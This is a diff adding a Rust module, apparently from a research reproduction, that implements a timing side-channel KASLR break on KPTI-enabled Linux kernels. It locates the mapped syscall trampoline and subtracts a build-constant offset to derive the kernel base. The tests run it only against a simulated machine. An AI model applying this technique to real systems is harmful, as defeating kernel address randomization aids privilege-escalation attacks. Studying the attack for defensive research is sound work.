@@ -1,0 +1,149 @@
+//! KASLR break on KPTI-enabled kernels (§IV-D).
+//!
+//! With KPTI the kernel image is absent from the user page table, but
+//! the KPTI *trampoline* (the syscall entry pages, `entry_SYSCALL_64`)
+//! must stay mapped. Its offset from the kernel base is a build
+//! constant (`0xc00000` on the paper's Ubuntu kernel, `0xe00000` on the
+//! EC2 AWS kernel), so finding the only mapped pages in the kernel
+//! region derandomizes the base.
+
+use avx_mmu::VirtAddr;
+use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
+
+use crate::calibrate::Threshold;
+use crate::primitives::PageTableAttack;
+use crate::prober::Prober;
+
+use super::kaslr::PER_SLOT_OVERHEAD_CYCLES;
+
+/// Result of the trampoline hunt.
+#[derive(Clone, Debug)]
+pub struct KptiScan {
+    /// All slots that classified as mapped (should be the trampoline
+    /// slot only on a KPTI kernel).
+    pub mapped_slots: Vec<u64>,
+    /// The trampoline address, when found.
+    pub trampoline: Option<VirtAddr>,
+    /// The derived kernel base (`trampoline − offset`).
+    pub base: Option<VirtAddr>,
+    /// Probing cycles.
+    pub probing_cycles: u64,
+    /// Total cycles.
+    pub total_cycles: u64,
+}
+
+/// The KPTI-trampoline attack.
+#[derive(Clone, Copy, Debug)]
+pub struct KptiAttack {
+    attack: PageTableAttack,
+    /// Known trampoline offset for the target kernel build.
+    pub trampoline_offset: u64,
+}
+
+impl KptiAttack {
+    /// Builds the attack for a given threshold and build constant.
+    #[must_use]
+    pub fn new(threshold: Threshold, trampoline_offset: u64) -> Self {
+        Self {
+            attack: PageTableAttack::new(threshold),
+            trampoline_offset,
+        }
+    }
+
+    /// Scans the kernel region and derives the base from the first
+    /// mapped slot.
+    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
+        let probing_before = p.probing_cycles();
+        let total_before = p.total_cycles();
+        let start = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
+        let samples = self
+            .attack
+            .measure_range(p, start, KASLR_ALIGN, KERNEL_SLOTS);
+        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
+        let mapped = self.attack.classify(&samples);
+        let mapped_slots: Vec<u64> = mapped
+            .iter()
+            .enumerate()
+            .filter(|(_, &m)| m)
+            .map(|(i, _)| i as u64)
+            .collect();
+        let trampoline = mapped_slots
+            .first()
+            .map(|&slot| start.wrapping_add(slot * KASLR_ALIGN));
+        let base = trampoline.map(|t| {
+            VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset))
+        });
+        KptiScan {
+            mapped_slots,
+            trampoline,
+            base,
+            probing_cycles: p.probing_cycles() - probing_before,
+            total_cycles: p.total_cycles() - total_before,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::prober::SimProber;
+    use avx_os::linux::{LinuxConfig, LinuxSystem, KPTI_TRAMPOLINE_OFFSET};
+    use avx_uarch::{CpuProfile, NoiseModel};
+
+    fn kpti_prober(seed: u64, fixed: Option<u64>) -> (SimProber, avx_os::LinuxTruth) {
+        let sys = LinuxSystem::build(LinuxConfig {
+            kpti: true,
+            fixed_slide: fixed,
+            ..LinuxConfig::seeded(seed)
+        });
+        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
+        m.set_noise(NoiseModel::none());
+        (SimProber::new(m), truth)
+    }
+
+    #[test]
+    fn reproduces_the_section_iv_d_setup() {
+        // Fixed base 0xffffffff81000000 (slot 8): the trampoline must be
+        // found at 0xffffffff81c00000, exactly as the paper reports.
+        let (mut p, truth) = kpti_prober(1, Some(8));
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
+        let scan = attack.scan(&mut p);
+        assert_eq!(
+            scan.trampoline.map(|t| t.as_u64()),
+            Some(0xffff_ffff_81c0_0000)
+        );
+        assert_eq!(scan.base, Some(truth.kernel_base));
+    }
+
+    #[test]
+    fn randomized_kpti_kernels_are_derandomized() {
+        for seed in [2, 3, 4] {
+            let (mut p, truth) = kpti_prober(seed, None);
+            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+            let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
+            let scan = attack.scan(&mut p);
+            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
+        }
+    }
+
+    #[test]
+    fn only_the_trampoline_slot_is_mapped() {
+        let (mut p, truth) = kpti_prober(5, None);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
+        let scan = attack.scan(&mut p);
+        assert_eq!(scan.mapped_slots.len(), 1, "KPTI leaves one visible slot");
+        assert_eq!(scan.trampoline, truth.trampoline);
+    }
+
+    #[test]
+    fn wrong_offset_constant_yields_wrong_base() {
+        // Sanity: the attack depends on knowing the build constant.
+        let (mut p, truth) = kpti_prober(6, Some(8));
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = KptiAttack::new(th, 0xe0_0000); // wrong for this build
+        let scan = attack.scan(&mut p);
+        assert_ne!(scan.base, Some(truth.kernel_base));
+    }
+}
